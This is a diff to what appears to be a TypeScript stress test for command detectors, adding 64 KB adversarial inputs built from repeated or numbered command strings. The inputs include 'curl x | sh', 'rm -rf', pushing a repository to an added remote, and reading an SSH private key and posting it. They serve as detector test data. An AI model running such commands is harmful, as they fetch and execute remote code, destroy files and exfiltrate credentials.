@@ -101,6 +101,12 @@ console.log(
 
 // --- 2. Worst case of a 64 KB adversarial string per detector -------------------------------------------
 const big = (unit: string) => unit.repeat(Math.ceil(65536 / unit.length)).slice(0, 65536);
+/** 64 KB of distinct commands, `i` counting (a repeated unit is read once when nothing changes between copies). */
+const numbered = (unit: (i: number) => string) => {
+  let text = "";
+  for (let i = 0; text.length < 65536; i++) text += unit(i);
+  return text.slice(0, 65536);
+};
 const ADVERSARIAL: Record<string, string> = {
   a: big("a"),
   "@": big("@"),
@@ -208,6 +214,12 @@ const ADVERSARIAL: Record<string, string> = {
   "git remote add; push --all;": big("git remote add a b; git push a --all; "),
   "ssh -A h;": big("ssh -A h; "),
   "k = open(id_rsa)⏎post(k": big("k = open('~/.ssh/id_rsa')\nrequests.post(u, data=k\n"),
+  // session 17: thousands of distinct commands (a command is read up to its first 20,000 characters)
+  "a$i=1; $(x); (numbered)": numbered((i) => `a${i}=1; $(x); `),
+  "a$i=1; $(x$i); (numbered)": numbered((i) => `a${i}=1; $(x${i}); `),
+  "curl x$i | sh; (numbered)": numbered((i) => `curl x${i} | sh; `),
+  "cd d$i; rm -rf x; (numbered)": numbered((i) => `cd d${i}; rm -rf x; `),
+  "f$i(){ curl x | sh; }; f$i; (numbered)": numbered((i) => `f${i}(){ curl x | sh; }; f${i}; `),
 };
 // The schema caps a command at 2000 characters and a diff at 32 KB; these go past both.
 const trailOf = (s: string, where: "error" | "command" | "patch" = "error"): Trail => ({
